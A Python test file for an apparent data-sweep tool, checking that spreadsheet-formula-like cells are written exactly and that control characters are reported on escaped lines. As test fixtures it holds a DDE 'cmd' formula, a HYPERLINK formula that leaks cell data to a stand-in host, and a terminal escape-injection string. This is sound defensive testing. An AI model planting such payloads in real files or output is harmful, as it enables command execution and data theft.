"""Text from the data in real runs: formula-like cells kept exact in the tables, control
characters told in one escaped line each."""

import numpy as np
import pandas as pd

from tests.unit.prepare.test_data import ESC, frame


def test_formula_like_text_is_kept_exact_in_the_tables_as_the_readme_says(tmp_path):
    """The rule for cells a spreadsheet would run (issue #27 case 11): the tables are results,
    keyed and checksummed, so such text is written exactly, neither escaped nor refused; the
    README says so and how to open them safely."""
    import csv as csvmod

    from lrsweep.tools.cli import main
    from tests.conftest import REPO, snakemake

    name, label = "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")'
    rng = np.random.RandomState(1)
    X = rng.normal(size=(120, 2))
    table = pd.DataFrame(X, columns=[name, "@b"])
    table["y"] = np.where(X[:, 0] + rng.normal(size=120) > 0, label, "-no")
    table.to_csv(tmp_path / "f.csv", index=False)
    table.head(3).to_csv(tmp_path / "new.csv", index=False)
    experiment = {"dataset": {"source": "csv", "path": "f.csv", "target": "y"}, "sklearn": {}}
    config = {"sweep": "f", "figures": False, "experiments": {"f": experiment}}
    proc = snakemake(tmp_path, config=config)
    assert proc.returncode == 0, proc.stderr[-3000:]
    version = tmp_path / "results/f/latest"
    with open(version / "coefficients.csv", newline="") as f:
        rows = list(csvmod.DictReader(f))
    assert {r["term"] for r in rows} >= {name, "@b"}
    out = tmp_path / "p.csv"
    assert main(["predict", str(tmp_path / "new.csv"), "-o", str(out), "--experiment", "f",
                 "--selected", "--results", str(tmp_path / "results/f")]) == 0  # fmt: skip
    with open(out, newline="") as f:
        header, *cells = list(csvmod.reader(f))
    assert header[:2] == [name, "@b"] and f"p_{label}" in header and "p_-no" in header
    assert cells[0][header.index("predicted")] in (label, "-no")
    readme = " ".join((REPO / "README.md").read_text().split())
    assert "beginning with `=`, `+`, `-` or `@`" in readme and "written exactly" in readme


def test_a_run_tells_control_characters_in_one_escaped_line_each(tmp_path):
    """The runs of the issue: a newline in a label failed every grid point in the figures; an
    escape sequence in a column name reached the terminal raw."""
    from tests.conftest import snakemake

    rng = np.random.RandomState(0)
    a = rng.normal(size=80)
    frame(a=a, b=rng.normal(size=80), y=np.where(a > 0, "yes\nsure", "no")).to_csv(
        tmp_path / "nl.csv", index=False
    )
    frame(a=a, **{ESC: np.ones(80)}, y=(a > 0).astype(int)).to_csv(
        tmp_path / "esc.csv", index=False
    )
    experiments = {
        name: {"dataset": {"source": "csv", "path": f"{name}.csv", "target": "y"}, "sklearn": {}}
        for name in ("nl", "esc")
    }
    proc = snakemake(tmp_path, config={"sweep": "c", "experiments": experiments})
    assert proc.returncode != 0
    said = proc.stdout + proc.stderr
    assert not any((ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160 for c in said)
    lines = [line for line in said.splitlines() if line.startswith("lrsweep: experiment")]
    assert len(lines) == 2, lines
    assert any(
        line.startswith(
            r"lrsweep: experiment 'nl': key 'dataset.target': a class label of column 'y' "
            r"('yes\nsure') holds a control character ('\n')"
        )
        for line in lines
    )
    assert any(
        line.startswith(
            r"lrsweep: experiment 'esc': key 'dataset.features': the name of column 2 of "
            r"esc.csv ('\x1b]0;TITLE-SET-BY-DATA\x07\x1b[2J\x1b[31mRED') holds a control"
        )
        for line in lines
    )
    assert not list((tmp_path / "results/c").glob("v-*"))
